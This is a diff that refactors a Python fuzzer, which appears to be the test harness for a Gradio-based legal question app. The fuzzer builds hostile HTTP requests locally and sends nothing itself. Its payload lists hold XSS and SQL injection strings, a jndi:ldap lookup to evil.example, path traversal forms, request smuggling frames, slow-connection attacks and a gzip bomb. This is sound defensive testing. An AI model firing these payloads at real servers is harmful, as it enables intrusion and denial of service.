@@ -1,7 +1,7 @@
-"""Hostile requests, made up from a seeded source of chance: nothing here opens a socket.
+"""Generate hostile requests from a seeded source of randomness; nothing here opens a socket.
 
-`requests` gives as many as are wanted, of all kinds mixed; `slow_senders` gives connections that take their time. The
-same seed gives the same requests, as far as the server's own numbers (`Target`) are the same.
+`generate_requests` yields as many requests as wanted, of all kinds mixed. `slow_connections` returns connections that
+take their time. The same seed gives the same requests, given the same numbers from the server (`Target`).
 """
 
 import gzip
@@ -14,49 +14,49 @@ from typing import Any
 
 Headers = Sequence[tuple[bytes, bytes]]
 
-TOLD = "evil.example"
-"""The host of whoever attacks; the answers lead nobody there."""
+ATTACKER_HOST = "evil.example"
+"""The attacker's host; no response may redirect there."""
 
 SCRIPT = "<script>window.hacked=1</script>"
 
 _HEADER_LIMIT = 30_000
-"""Bytes of a header that the server reads in any case; beyond that it may close before all was sent."""
+"""Bytes of a header that the server always reads; with more it may close before everything was sent."""
 
 _BODY_LIMIT = 128 * 1024
 
 
 @dataclass(frozen=True, slots=True)
 class Target:
-    """What an attacker knows of a server: its files' places, its page's events, and a host that it should not call."""
+    """What an attacker knows of a server: paths of files, the page's events, and a host that it must not call."""
 
     files: tuple[str, ...]
     events: tuple[tuple[int, int], ...]
-    """Gradio's number of each event that does something on the server, and how many values come with it."""
+    """Gradio's number of each event that runs on the server, and how many values it takes."""
     entries: tuple[str, ...]
     outside: str
 
 
 @dataclass(frozen=True, slots=True)
-class Hostile:
-    """A request to the letter.
+class HostileRequest:
+    """A request, byte for byte.
 
-    `due` tells that it must be answered; `several` that more than one answer may come. `follow_up` is sent on a
-    connection of its own where the request has succeeded.
+    If `must_be_answered`, a missing response is a fault; if `may_be_several`, more than one response may come.
+    `follow_up` is sent on a connection of its own if the request has succeeded.
     """
 
     kind: str
-    sent: bytes
-    due: bool = True
-    several: bool = False
+    data: bytes
+    must_be_answered: bool = True
+    may_be_several: bool = False
     follow_up: bytes = b""
 
 
 @dataclass(frozen=True, slots=True)
-class Slow:
-    """A connection that sends `first` at once, then the letters of `dribble`, one every `pause` seconds, over and over.
+class SlowConnection:
+    """A connection that sends `first` at once, then the bytes of `dribble`, one every `pause` seconds, over and over.
 
-    The server must have closed it after `limit` seconds. `once` tells that only one letter is sent later, `reads` that
-    the client reads what comes, `ends` that it closes its half.
+    The server must have closed it after `limit` seconds. If `dribbles_once`, only one byte is sent later; if
+    `reads_response`, the client reads what comes; if `half_closes`, the client closes its half.
     """
 
     kind: str
@@ -64,9 +64,9 @@ class Slow:
     limit: float
     dribble: bytes = b""
     pause: float = 1.0
-    once: bool = False
-    reads: bool = True
-    ends: bool = False
+    dribbles_once: bool = False
+    reads_response: bool = True
+    half_closes: bool = False
 
 
 def request(
@@ -77,8 +77,12 @@ def request(
     host: bytes | None = b"127.0.0.1",
     version: bytes = b"HTTP/1.1",
 ) -> bytes:
-    """A request as it goes over the line; after its answer the connection is closed."""
-    begin = b" ".join(part if isinstance(part, bytes) else _bytes(part) for part in (method, path)) + b" " + version
+    """Build the bytes of a request; the connection is closed after its response."""
+    begin = (
+        b" ".join(part if isinstance(part, bytes) else _encode_loosely(part) for part in (method, path))
+        + b" "
+        + version
+    )
     lines = [begin, *([b"Host: " + host] if host is not None else []), b"Connection: close"]
     lines += [name + b": " + value for name, value in headers]
     if body is not None:
@@ -86,54 +90,67 @@ def request(
     return b"\r\n".join(lines) + b"\r\n\r\n" + (body or b"")
 
 
-def requests(seed: int, count: int, target: Target) -> Iterator[Hostile]:
-    """As many hostile requests, of all kinds."""
+def generate_requests(seed: int, count: int, target: Target) -> Iterator[HostileRequest]:
+    """Yield so many hostile requests, of all kinds."""
     random = Random(seed)
     kinds, weights = zip(*_KINDS.items(), strict=True)
     for kind in random.choices(kinds, weights, k=count):
         yield kind(random, target)
 
 
-def slow_senders(target: Target, asset: str) -> list[Slow]:
-    """Connections that the server must close by itself; `asset` is the path of a large file of the page's."""
-    begin = b"POST /api/ask HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
-    body = begin + b"Content-Length: 100000\r\n\r\n"
-    chunked = begin + b"Transfer-Encoding: chunked\r\n\r\n"
+def slow_connections(target: Target, asset: str) -> list[SlowConnection]:
+    """Return connections that the server must close by itself; `asset` is the path of a large file of the page."""
+    head = b"POST /api/ask HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
+    body = head + b"Content-Length: 100000\r\n\r\n"
+    chunked = head + b"Transfer-Encoding: chunked\r\n\r\n"
     answered = b"POST /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 100000\r\n\r\n"
-    kept = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
+    keep_alive = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
     greedy = b"GET %b HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" % asset.encode()
-    header, whole = 10.0, 30.0
+    header_limit, request_limit = 10.0, 30.0
     return [
-        Slow("never sends", b"", header),
-        Slow("header stops", begin, header),
-        Slow("header a byte at a time", b"", header, begin + b"X-" + b"x" * 1000, 0.5),
-        Slow("endless headers", begin, header, b"a: b\r\n", 0.05),
-        Slow("blank lines", b"", header, b"\r\n", 0.5),
-        Slow("body never comes", body, whole),
-        Slow("body stops", body + b'{"question": "', whole),
-        Slow("body a byte at a time", body, whole, b" ", 0.5),
-        Slow("body waits to be asked for", begin + b"Expect: 100-continue\r\nContent-Length: 9\r\n\r\n", whole),
-        Slow("chunk stops", chunked + b"1000\r\nx", whole),
-        Slow("chunks a byte at a time", chunked, whole, b"1\r\nx\r\n", 0.3),
-        Slow("chunk size without end", chunked, whole, b"0", 0.5),
-        Slow("body of a page's event stops", body.replace(b"/api/ask", b"/gradio_api/queue/join") + b"{", whole),
-        Slow("body after its answer", answered, whole, b" ", 2.0),
-        Slow("a letter after its answer", answered, whole, b" ", once=True),
-        Slow("nonsense after its answer", chunked.replace(b"/api/ask", b"/healthz"), whole, b"z\r\n"),
-        Slow("body after its answer stops", answered + b" ", whole),
-        Slow("second header stops", kept + b"GET /", header),
-        Slow("second header a byte at a time", kept, header, b"GET / HTTP/1.1\r\nX-" + b"x" * 1000, 0.5),
-        Slow("nothing after an answer", kept, header),
-        Slow("never reads", greedy * 200, whole, reads=False),
-        Slow("never reads entries", greedy.replace(asset.encode(), b"/api/entries") * 400, whole, reads=False),
-        # As long as there is room between the two it is answered; only then is it kept waiting for.
-        Slow("never reads and sends on", greedy, 4 * whole, greedy, 0.01, reads=False),
-        Slow("closes half in the header", begin, header, ends=True),
-        Slow("closes half in the body", body + b"{", header, ends=True),
-        Slow("closes half after a request", kept, header, ends=True),
-        Slow("a stream that nobody fills", request("GET", "/gradio_api/queue/data?session_hash=slow"), header),
-        Slow("event stream of the tools", request("GET", "/mcp", _EVENT_STREAM), whole),
-        Slow("file that waits", request("GET", f"/gradio_api/file={target.files[0]}")[:-2], header),
+        SlowConnection("never sends", b"", header_limit),
+        SlowConnection("header stops", head, header_limit),
+        SlowConnection("header a byte at a time", b"", header_limit, head + b"X-" + b"x" * 1000, 0.5),
+        SlowConnection("endless headers", head, header_limit, b"a: b\r\n", 0.05),
+        SlowConnection("blank lines", b"", header_limit, b"\r\n", 0.5),
+        SlowConnection("body never comes", body, request_limit),
+        SlowConnection("body stops", body + b'{"question": "', request_limit),
+        SlowConnection("body a byte at a time", body, request_limit, b" ", 0.5),
+        SlowConnection(
+            "body waits to be asked for", head + b"Expect: 100-continue\r\nContent-Length: 9\r\n\r\n", request_limit
+        ),
+        SlowConnection("chunk stops", chunked + b"1000\r\nx", request_limit),
+        SlowConnection("chunks a byte at a time", chunked, request_limit, b"1\r\nx\r\n", 0.3),
+        SlowConnection("chunk size without end", chunked, request_limit, b"0", 0.5),
+        SlowConnection(
+            "body of a page's event stops", body.replace(b"/api/ask", b"/gradio_api/queue/join") + b"{", request_limit
+        ),
+        SlowConnection("body after its answer", answered, request_limit, b" ", 2.0),
+        SlowConnection("a letter after its answer", answered, request_limit, b" ", dribbles_once=True),
+        SlowConnection("nonsense after its answer", chunked.replace(b"/api/ask", b"/healthz"), request_limit, b"z\r\n"),
+        SlowConnection("body after its answer stops", answered + b" ", request_limit),
+        SlowConnection("second header stops", keep_alive + b"GET /", header_limit),
+        SlowConnection(
+            "second header a byte at a time", keep_alive, header_limit, b"GET / HTTP/1.1\r\nX-" + b"x" * 1000, 0.5
+        ),
+        SlowConnection("nothing after an answer", keep_alive, header_limit),
+        SlowConnection("never reads", greedy * 200, request_limit, reads_response=False),
+        SlowConnection(
+            "never reads entries",
+            greedy.replace(asset.encode(), b"/api/entries") * 400,
+            request_limit,
+            reads_response=False,
+        ),
+        # It is answered until the buffers between client and server are full; only then does the server wait.
+        SlowConnection("never reads and sends on", greedy, 4 * request_limit, greedy, 0.01, reads_response=False),
+        SlowConnection("closes half in the header", head, header_limit, half_closes=True),
+        SlowConnection("closes half in the body", body + b"{", header_limit, half_closes=True),
+        SlowConnection("closes half after a request", keep_alive, header_limit, half_closes=True),
+        SlowConnection(
+            "a stream that nobody fills", request("GET", "/gradio_api/queue/data?session_hash=slow"), header_limit
+        ),
+        SlowConnection("event stream of the tools", request("GET", "/mcp", _EVENT_STREAM), request_limit),
+        SlowConnection("file that waits", request("GET", f"/gradio_api/file={target.files[0]}")[:-2], header_limit),
     ]
 
 
@@ -152,9 +169,9 @@ _TEXTS = (
     SCRIPT,
     "<img src=x onerror='window.hacked=1'>",
     "javascript:window.hacked=1",
-    f"![x](https://{TOLD}/p.png) [y](https://{TOLD})",
+    f"![x](https://{ATTACKER_HOST}/p.png) [y](https://{ATTACKER_HOST})",
     "' OR 1=1; DROP TABLE feedback; --",
-    "{0.__class__.__init__.__globals__} %s %n {{7*7}} ${jndi:ldap://" + TOLD + "/a}",
+    "{0.__class__.__init__.__globals__} %s %n {{7*7}} ${jndi:ldap://" + ATTACKER_HOST + "/a}",
     "__i18n__{'key': 'title'}",
     "\u202e\u2066which law\u2069\u202d",
     "\ufdfa" * 1000,
@@ -186,7 +203,7 @@ _TEXTS = (
 
 
 def text(random: Random, target: Target) -> str:
-    """A text that hardly anybody types."""
+    """Return a text that hardly anybody types."""
     draw = random.random()
     if draw < 0.6:
         return random.choice(_TEXTS)
@@ -200,7 +217,7 @@ def text(random: Random, target: Target) -> str:
 
 
 def file_object(random: Random, target: Target) -> dict[str, Any]:
-    """What stands for a file in Gradio's events, now or formerly."""
+    """Return an object that represents a file in Gradio's events, in current or former versions."""
     path, outside = random.choice(target.files), f"http://{target.outside}/"
     meta = {"_type": "gradio.FileData"}
     objects: tuple[dict[str, Any], ...] = (
@@ -214,7 +231,7 @@ def file_object(random: Random, target: Target) -> dict[str, Any]:
 
 
 def value(random: Random, target: Target, depth: int = 0) -> Any:
-    """A value of any type."""
+    """Return a value of any type."""
     path = random.choice(target.files)
     simple: tuple[Any, ...] = (
         text(random, target),
@@ -231,7 +248,7 @@ def value(random: Random, target: Target, depth: int = 0) -> Any:
     )
     if depth < 3 and random.random() < 0.2:
         inner = [value(random, target, depth + 1) for _ in range(random.randint(1, 4))]
-        return inner if random.random() < 0.5 else {text(random, target)[:50]: one for one in inner}
+        return inner if random.random() < 0.5 else {text(random, target)[:50]: item for item in inner}
     return random.choice(simple)
 
 
@@ -243,10 +260,10 @@ def _bomb() -> bytes:
     return gzip.compress(bytes(50 * 1024 * 1024))
 
 
-def encoded(random: Random, record: object) -> bytes:
-    """A record as JSON, now and then as JSON that is none."""
+def encode(random: Random, record: object) -> bytes:
+    """Encode a record as JSON, sometimes as invalid JSON."""
     body = json.dumps(record, ensure_ascii=random.random() < 0.5).encode("utf-8", "surrogatepass")
-    ways: tuple[Callable[[], bytes], ...] = (
+    mutations: tuple[Callable[[], bytes], ...] = (
         lambda: body.replace(b"{", b'{"question": 1, "question": "twice", "id": 1, "id": 2, ', 1),
         lambda: body[: random.randint(0, len(body))],
         lambda: body.decode("utf-8", "replace").encode(random.choice(("utf-16", "utf-16-le", "utf-32", "utf-7"))),
@@ -266,10 +283,10 @@ def encoded(random: Random, record: object) -> bytes:
         lambda: random.randbytes(random.randint(0, 2_000)),
         lambda: b"",
     )
-    return random.choice(ways)() if random.random() < 0.4 else body
+    return random.choice(mutations)() if random.random() < 0.4 else body
 
 
-def _asking(random: Random, target: Target) -> Hostile:
+def _ask_request(random: Random, target: Target) -> HostileRequest:
     any_value, any_text = partial(value, random, target), partial(text, random, target)
     record: dict[str, Any] = {"question": any_text() if random.random() < 0.6 else any_value()}
     if random.random() < 0.3:
@@ -280,11 +297,11 @@ def _asking(random: Random, target: Target) -> Hostile:
         record["edition"] = random.choice(("peru-2022", "peru-1999", "../..", any_value()))
     if random.random() < 0.3:
         record[random.choice(("k", "__proto__", "constructor", "threshold", "fn_index", any_text()[:20]))] = any_value()
-    return _posted("api/ask", "/api/ask", encoded(random, record), _content(random))
+    return _post("api/ask", "/api/ask", encode(random, record), _content_headers(random))
 
 
-def _content(random: Random) -> Headers:
-    """Says of a body that it is JSON, or something else."""
+def _content_headers(random: Random) -> Headers:
+    """Return headers that declare a body as JSON, or as something else."""
     if random.random() < 0.7:
         return _JSON
     types = (
@@ -301,30 +318,32 @@ def _content(random: Random) -> Headers:
     return ((b"Content-Type", random.choice(types)), *coding)
 
 
-def _posted(kind: str, path: str, body: bytes, headers: Headers, **facts: Any) -> Hostile:
-    return Hostile(kind, request("POST", path, headers, body), due=len(body) <= _BODY_LIMIT, **facts)
+def _post(kind: str, path: str, body: bytes, headers: Headers, **facts: Any) -> HostileRequest:
+    return HostileRequest(
+        kind, request("POST", path, headers, body), must_be_answered=len(body) <= _BODY_LIMIT, **facts
+    )
 
 
-def _searching(random: Random, target: Target) -> Hostile:
+def _search_request(random: Random, target: Target) -> HostileRequest:
     ks = ("0", "-1", "51", "1e3", "NaN", "9" * 5000, "", "true", "1.0", "٣", "0x10", "1_0", "%00", "[]")
-    parts = [f"q={_quoted(random, text(random, target))}"]
+    parts = [f"q={_quote(random, text(random, target))}"]
     if random.random() < 0.5:
         parts.append(f"k={random.choice(ks)}")
     if random.random() < 0.3:
-        parts.append(f"edition={_quoted(random, text(random, target))}")
+        parts.append(f"edition={_quote(random, text(random, target))}")
     if random.random() < 0.3:
         parts.append(
             random.choice(("q=1&q=2", "q[]=1", "q[__proto__]=1", "k=1&k=2", "&&&;=;", "q", "%", "q=%zz%", "?"))
         )
     random.shuffle(parts)
     path = "/api/search?" + "&".join(parts)
-    return Hostile("api/search", request("GET", path), due=len(path) < _HEADER_LIMIT)
+    return HostileRequest("api/search", request("GET", path), must_be_answered=len(path) < _HEADER_LIMIT)
 
 
-def _reading(random: Random, target: Target) -> Hostile:
+def _entry_request(random: Random, target: Target) -> HostileRequest:
     name = random.choice(
         (
-            _quoted(random, text(random, target)),
+            _quote(random, text(random, target)),
             f"{random.choice(target.entries)}{random.choice(('', '/', '%00', '.json', '/..', '%2F', ';', '?x', '#'))}",
             _traversal(random, target),
         )
@@ -332,10 +351,10 @@ def _reading(random: Random, target: Target) -> Hostile:
     tags = (b"*", b'"x"', b"W/*", b'"' + b"x" * 5000, b",,,,", b"\xff", b'W/"", *, "', b"")
     headers = ((b"If-None-Match", random.choice(tags)),) if random.random() < 0.5 else ()
     path = f"/api/entries/{name}"
-    return Hostile("api/entries", request("GET", path, headers), due=len(path) < _HEADER_LIMIT)
+    return HostileRequest("api/entries", request("GET", path, headers), must_be_answered=len(path) < _HEADER_LIMIT)
 
 
-def _calling_tools(random: Random, target: Target) -> Hostile:
+def _tool_request(random: Random, target: Target) -> HostileRequest:
     any_value = partial(value, random, target)
     methods = (
         *("initialize", "tools/list", "tools/call", "tools/call", "tools/call", "tools/call", "ping", "rpc.discover"),
@@ -371,15 +390,17 @@ def _calling_tools(random: Random, target: Target) -> Hostile:
             del record[name]
     batch: object = [record] * random.choice((0, 1, 50)) if random.random() < 0.1 else record
     accepts = (b"application/json", b"text/event-stream", b"*/*", b"", b"text/html", b"\xff")
-    headers = list(_TOOLS) if random.random() < 0.8 else [*_content(random), (b"Accept", random.choice(accepts))]
+    headers = (
+        list(_TOOLS) if random.random() < 0.8 else [*_content_headers(random), (b"Accept", random.choice(accepts))]
+    )
     odd = (
         (b"Mcp-Session-Id", random.choice((b"x", b"../../etc", b"\xff", b"y" * 5000))),
         (b"Mcp-Protocol-Version", random.choice((b"1999-01-01", b"2025-06-18", b"\xff", b"DROP"))),
         (b"Last-Event-ID", b"-1"),
-        (b"Origin", f"http://{TOLD}".encode()),
+        (b"Origin", f"http://{ATTACKER_HOST}".encode()),
     )
     headers += random.sample(odd, random.choice((0, 0, 1, 2)))
-    return _posted("mcp", "/mcp", encoded(random, batch), headers)
+    return _post("mcp", "/mcp", encode(random, batch), headers)
 
 
 # --- paths -----------------------------------------------------------------------------------------------------------
@@ -404,7 +425,7 @@ _GRADIO = (
 
 
 def _traversal(random: Random, target: Target) -> str:
-    """A file's path in one of the many ways in which it gets past a careless look."""
+    """Return a file's path in one of the many forms that pass a careless check."""
     path = random.choice(target.files)
     up = random.choice(
         (
@@ -414,11 +435,17 @@ def _traversal(random: Random, target: Target) -> str:
         )
     )
     ends = ("", "", "", "%00", "%00.js", "\x00.css", "?", "#", "/", "/.", ";.js", "%20", "::$DATA", "~")
-    begins = (path, up * random.randint(1, 12) + path.lstrip("/"), "/" + path, f"file://{path}", f"\\\\{TOLD}\\share")
+    begins = (
+        path,
+        up * random.randint(1, 12) + path.lstrip("/"),
+        "/" + path,
+        f"file://{path}",
+        f"\\\\{ATTACKER_HOST}\\share",
+    )
     return random.choice(begins) + random.choice(ends)
 
 
-def _path(random: Random, target: Target) -> Hostile:
+def _path_request(random: Random, target: Target) -> HostileRequest:
     draw = random.random()
     if draw < 0.5:
         route = random.choice(_GRADIO).format(
@@ -429,29 +456,37 @@ def _path(random: Random, target: Target) -> Hostile:
         path = random.choice(
             ("/", "/gradio_api/", "//gradio_api/", "/gradio_api//", "/./gradio_api/", "/%67radio_api/")
         )
-        return _got(random, target, "Gradio's path", path + route)
+        return _get(random, target, "Gradio's path", path + route)
     if draw < 0.8:
         prefix = random.choice(
             ("", "/", "/assets/", "/static/", "/page/", "/api/", "/api/entries", "/gradio_api/", "/theme.css/", "/mcp/")
         )
         path = prefix + _traversal(random, target)
-        return _got(random, target, "path to a file", path if path.startswith("/") else f"/{path}")
-    return _odd_path(random, target)
+        return _get(random, target, "path to a file", path if path.startswith("/") else f"/{path}")
+    return _odd_path_request(random, target)
 
 
-def _got(random: Random, target: Target, kind: str, path: str) -> Hostile:
+def _get(random: Random, target: Target, kind: str, path: str) -> HostileRequest:
     method = random.choice(("GET", "GET", "GET", "HEAD", "POST"))
-    body = encoded(random, value(random, target)) if method == "POST" else None
-    raw = request(method, path, _content(random) if body is not None else (), body)
-    return Hostile(kind, raw, due=len(path) < _HEADER_LIMIT and len(body or b"") <= _BODY_LIMIT)
+    body = encode(random, value(random, target)) if method == "POST" else None
+    raw = request(method, path, _content_headers(random) if body is not None else (), body)
+    return HostileRequest(kind, raw, must_be_answered=len(path) < _HEADER_LIMIT and len(body or b"") <= _BODY_LIMIT)
 
 
-def _odd_path(random: Random, target: Target) -> Hostile:
+def _odd_path_request(random: Random, target: Target) -> HostileRequest:
     paths: tuple[bytes | str, ...] = (
-        *("*", f"//{TOLD}/", f"///{TOLD}/%2f..", f"/\\{TOLD}", f"http://{TOLD}/", f"https://{TOLD}/api/ask", TOLD),
+        *(
+            "*",
+            f"//{ATTACKER_HOST}/",
+            f"///{ATTACKER_HOST}/%2f..",
+            f"/\\{ATTACKER_HOST}",
+            f"http://{ATTACKER_HOST}/",
+            f"https://{ATTACKER_HOST}/api/ask",
+            ATTACKER_HOST,
+        ),
         *(
             f"http://{target.outside}/",
-            f"{TOLD}:443",
+            f"{ATTACKER_HOST}:443",
             "127.0.0.1:22",
             "/%",
             "/%zz",
@@ -509,7 +544,7 @@ def _odd_path(random: Random, target: Target) -> Hostile:
         "/static/js/iframeResizer.contentWindow.min.js",
     )
     path = random.choice(paths)
-    return Hostile("odd path", request("GET", path), due=len(path) < _HEADER_LIMIT)
+    return HostileRequest("odd path", request("GET", path), must_be_answered=len(path) < _HEADER_LIMIT)
 
 
 # --- methods, headers, framing ---------------------------------------------------------------------------------------
@@ -539,34 +574,34 @@ _PATHS = (
 )
 
 
-def _method(random: Random, target: Target) -> Hostile:
-    body = encoded(random, value(random, target)) if random.random() < 0.3 else None
+def _method_request(random: Random, target: Target) -> HostileRequest:
+    body = encode(random, value(random, target)) if random.random() < 0.3 else None
     method, path = random.choice(_METHODS), random.choice(_PATHS)
-    raw = request(method, path, _content(random) if body is not None else (), body)
-    return Hostile("method", raw, due=len(body or b"") <= _BODY_LIMIT)
+    raw = request(method, path, _content_headers(random) if body is not None else (), body)
+    return HostileRequest("method", raw, must_be_answered=len(body or b"") <= _BODY_LIMIT)
 
 
-def _header(random: Random, target: Target) -> Hostile:
+def _header_request(random: Random, target: Target) -> HostileRequest:
     method, path = "GET", random.choice(_PATHS)
     hosts = _hosts(target)
     if random.random() < 0.3:
         host = random.choice((None, *hosts))
         more = ((b"Host", random.choice(hosts)),) if random.random() < 0.3 else ()
-        return Hostile("host", request(method, path, more, host=host))
+        return HostileRequest("host", request(method, path, more, host=host))
     if random.random() < 0.1:
         many = random.choice(
             ([(b"X-%d" % n, b"y") for n in range(3_000)], [(b"X", b"y" * 40_000)], [(b"a", b"")] * 5_000)
         )
-        return Hostile("many headers", request(method, path, many), due=False)
+        return HostileRequest("many headers", request(method, path, many), must_be_answered=False)
     headers = [(name, random.choice(values)) for name, values in random.sample(_headers(target), random.randint(1, 4))]
-    return Hostile("headers", request(method, path, headers))
+    return HostileRequest("headers", request(method, path, headers))
 
 
 @cache
 def _hosts(target: Target) -> tuple[bytes, ...]:
     return (
         *(
-            TOLD.encode(),
+            ATTACKER_HOST.encode(),
             SCRIPT.encode(),
             b"a.example, b.example",
             b"[::1]",
@@ -597,7 +632,7 @@ def _headers(target: Target) -> list[tuple[bytes, tuple[bytes, ...]]]:
         (b"X-Forwarded-Host", hosts),
         (b"X-Forwarded-For", clients),
         (b"X-Forwarded-Proto", (b"https", b"javascript", b"http,https", *junk)),
-        (b"X-Forwarded-Prefix", (b"/../..", f"//{TOLD}".encode(), *junk)),
+        (b"X-Forwarded-Prefix", (b"/../..", f"//{ATTACKER_HOST}".encode(), *junk)),
         (b"X-Forwarded-Port", (b"0", b"99999999", *junk)),
         (b"Forwarded", (b"for=127.0.0.1;host=evil.example;proto=https", b'for="[::1]"', *junk)),
         (b"X-Real-IP", clients),
@@ -620,8 +655,8 @@ def _headers(target: Target) -> list[tuple[bytes, tuple[bytes, ...]]]:
         (b"If-None-Match", (b"*", b'W/"x"', *junk)),
         (b"If-Modified-Since", (b"Thu, 99 Foo 9999 99:99:99 GMT", *junk)),
         (b"If-Range", (b"*", *junk)),
-        (b"Origin", (f"http://{TOLD}".encode(), b"null", b"file://", *junk)),
-        (b"Referer", (f"http://{TOLD}/{SCRIPT}".encode(), *junk)),
+        (b"Origin", (f"http://{ATTACKER_HOST}".encode(), b"null", b"file://", *junk)),
+        (b"Referer", (f"http://{ATTACKER_HOST}/{SCRIPT}".encode(), *junk)),
         (
             b"Cookie",
             (b"access-token=x; access-token-unsecure=../..", b"=;=;=", b"a=" + b"b" * 5000, b"a;" * 900, *junk),
@@ -642,8 +677,8 @@ def _headers(target: Target) -> list[tuple[bytes, tuple[bytes, ...]]]:
     ]
 
 
-def _framing(random: Random, target: Target) -> Hostile:
-    """Bodies whose length is told wrongly, twice or not at all."""
+def _framing_request(random: Random, target: Target) -> HostileRequest:
+    """Return a body whose length is declared wrongly, twice or not at all."""
     path = random.choice((b"/api/ask", b"/mcp", b"/gradio_api/queue/join", b"/healthz", b"/nowhere"))
     begin = b"POST " + path + b" HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
     ask = b'{"question": "Which law protects personal data?"}'
@@ -680,7 +715,9 @@ def _framing(random: Random, target: Target) -> Hostile:
         b"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden,
         b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n%b\r\n0\r\n\r\n" % (len(ask), ask) + hidden,
         b"Transfer-Encoding:\x0bchunked\r\nContent-Length: 0\r\n\r\n0\r\n\r\n" + hidden,
-        chunked + b"%x\r\n%b\r\n0\r\nContent-Length: 9\r\nHost: %b\r\n\r\n" % (len(ask), ask, TOLD.encode()) + hidden,
+        chunked
+        + b"%x\r\n%b\r\n0\r\nContent-Length: 9\r\nHost: %b\r\n\r\n" % (len(ask), ask, ATTACKER_HOST.encode())
+        + hidden,
         b"Content-Length: %d\r\n\r\n%b" % (len(ask), ask) + hidden * 20,
         b"Content-Length: 2\r\n\r\n{}" + b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" * 5,
     ]
@@ -713,16 +750,16 @@ def _framing(random: Random, target: Target) -> Hostile:
     ]
     draw = random.random()
     if draw < 0.4:
-        return Hostile("bad length", begin + random.choice(refused), due=False, several=True)
+        return HostileRequest("bad length", begin + random.choice(refused), must_be_answered=False, may_be_several=True)
     if draw < 0.7:
-        return Hostile("hidden request", begin + random.choice(several), several=True)
-    return Hostile("not HTTP", random.choice(nonsense), due=False, several=True)
+        return HostileRequest("hidden request", begin + random.choice(several), may_be_several=True)
+    return HostileRequest("not HTTP", random.choice(nonsense), must_be_answered=False, may_be_several=True)
 
 
 # --- the page's events -----------------------------------------------------------------------------------------------
 
 
-def _event(random: Random, target: Target) -> Hostile:
+def _event_request(random: Random, target: Target) -> HostileRequest:
     any_value = partial(value, random, target)
     number, inputs = random.choice(target.events)
     if random.random() < 0.15:
@@ -750,14 +787,14 @@ def _event(random: Random, target: Target) -> Hostile:
             record[name] = content if random.random() < 0.7 else any_value()
     if random.random() < 0.03:
         del record[random.choice(list(record))]
-    body = json.dumps(record).encode() if random.random() < 0.85 else encoded(random, record)
+    body = json.dumps(record).encode() if random.random() < 0.85 else encode(random, record)
     stream = request("GET", f"/gradio_api/queue/data?session_hash={session}")
-    headers = _JSON if random.random() < 0.9 else _content(random)
-    return _posted("page's event", "/gradio_api/queue/join", body, headers, follow_up=stream if odd == session else b"")
+    headers = _JSON if random.random() < 0.9 else _content_headers(random)
+    return _post("page's event", "/gradio_api/queue/join", body, headers, follow_up=stream if odd == session else b"")
 
 
 def _event_value(random: Random, target: Target) -> Any:
-    """What the page might send in one place of an event, or anything else."""
+    """Return a value that the page might send in one position of an event, or anything else."""
     kept = [{"question": text(random, target), "language": "en", "answer": value(random, target), "id": "x"}]
     likely = (text(random, target), "en", "es", None, "", kept, [], json.dumps(kept), "peru-2022/38-39", True)
     if random.random() < 0.2:
@@ -765,15 +802,15 @@ def _event_value(random: Random, target: Target) -> Any:
     return random.choice(likely) if random.random() < 0.5 else value(random, target)
 
 
-def _stream(random: Random, target: Target) -> Hostile:
+def _stream_request(random: Random, target: Target) -> HostileRequest:
     session = random.choice(
         ("", "x", "unknown", "../x", "%00", "x" * 65, "x&session_hash=y", "%ff", SCRIPT, "s1%0d%0ay")
     )
-    return Hostile("page's stream", request("GET", f"/gradio_api/queue/data?session_hash={session}"))
+    return HostileRequest("page's stream", request("GET", f"/gradio_api/queue/data?session_hash={session}"))
 
 
-def _quoted(random: Random, words: str) -> str:
-    """A text in an address: quoted as it should be, or partly, or not at all."""
+def _quote(random: Random, words: str) -> str:
+    """Quote a text for an address: correctly, partly, or not at all."""
     raw = words.encode("utf-8", "surrogatepass")
     if random.random() < 0.7:
         return "".join(f"%{byte:02x}" for byte in raw[:7_000])
@@ -782,19 +819,19 @@ def _quoted(random: Random, words: str) -> str:
     )
 
 
-def _bytes(words: str) -> bytes:
+def _encode_loosely(words: str) -> bytes:
     return words.encode("utf-8", "surrogatepass")
 
 
-_KINDS: dict[Callable[[Random, Target], Hostile], int] = {
-    _path: 30,
-    _method: 5,
-    _header: 14,
-    _framing: 8,
-    _asking: 12,
-    _searching: 7,
-    _reading: 5,
-    _calling_tools: 8,
-    _event: 10,
-    _stream: 1,
+_KINDS: dict[Callable[[Random, Target], HostileRequest], int] = {
+    _path_request: 30,
+    _method_request: 5,
+    _header_request: 14,
+    _framing_request: 8,
+    _ask_request: 12,
+    _search_request: 7,
+    _entry_request: 5,
+    _tool_request: 8,
+    _event_request: 10,
+    _stream_request: 1,
 }
